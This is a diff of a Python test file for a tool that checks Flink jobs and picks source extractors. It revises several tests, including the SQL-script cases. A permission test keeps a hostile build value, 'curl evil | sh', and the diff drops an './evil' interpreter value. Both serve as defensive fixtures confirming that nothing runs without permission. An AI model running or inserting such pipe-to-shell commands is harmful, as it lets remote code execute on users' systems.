@@ -21,7 +21,7 @@ from checker.workflows.check import choosing_extractors as choosing
 from checker.workflows.check.choosing_extractors import Choice, choose
 from checker.workflows.check.comparing_revisions import plan_check
 from checker.workflows.check.records import ReadPipeline, SideToRead
-from checker.workflows.running_programs import Runner, lacks
+from checker.workflows.running_programs import Runner
 from tests.scratch import Scratch
 
 JAVA = b"""package jobs;
@@ -110,7 +110,7 @@ def test_what_may_run_is_run_on_both_sides() -> None:
     ("entry", "why"),
     [
         (replace(ORDERS, build=None), "neither build nor jars are configured"),
-        (replace(ORDERS, main="jobs/orders.py"), "no interpreter with PyFlink is configured"),
+        (replace(ORDERS, main="jobs/orders.py"), "PyFlink scripts are not run"),
         (replace(ORDERS, main=None, file="src/jobs/Orders.java"), "no main class is configured"),
     ],
 )
@@ -134,7 +134,6 @@ def test_without_permission_nothing_runs_and_the_option_is_named() -> None:
     [
         (),
         (replace(ORDERS, build="curl evil | sh"),),
-        (replace(ORDERS, interpreter="./evil"),),
         (replace(ORDERS, args=("--cmd",)),),
         (replace(ORDERS, extract=ExtractorKind.JAVA),),
     ],
@@ -256,6 +255,7 @@ def test_other_languages_are_read_by_running_them_only() -> None:
         ({"main": None, "file": "orders.topology.json"}, ExtractorKind.DOCUMENT),
         ({"main": None, "file": "orders.yaml"}, ExtractorKind.DOCUMENT),
         ({"main": None, "file": "plan.json"}, ExtractorKind.SQL),
+        ({"main": None, "file": "etl.sql"}, ExtractorKind.SQL),
         ({"main": None, "file": "other.json"}, ExtractorKind.DOCUMENT),
         ({"main": "jobs.Orders", "file": "src/jobs/Orders.java"}, ExtractorKind.JAVA),
     ],
@@ -265,14 +265,8 @@ def test_the_source_reader_that_fits(changes: dict[str, str | None], kind: Extra
     entry = replace(ORDERS, **changes)  # type: ignore[arg-type]
     assert source_kind(files, entry) is kind
     assert unread(files, entry) is None
-    assert (document_kind(files, entry) is kind) == (kind in (ExtractorKind.DOCUMENT, ExtractorKind.SQL))
-
-
-def test_a_sql_script_has_no_source_reader_but_can_run_without_jars() -> None:
-    entry = replace(ORDERS, main=None, file="etl.sql", build=None)
-    assert unread(MemoryFiles({"etl.sql": b"INSERT INTO a SELECT 1"}), entry) is not None
-    assert unread(NOTHING, entry) is None
-    assert lacks(entry) is None
+    holds_graph = entry.file != "etl.sql" and kind in (ExtractorKind.DOCUMENT, ExtractorKind.SQL)
+    assert (document_kind(files, entry) is kind) == holds_graph
 
 
 TWO_JOBS = MemoryFiles(
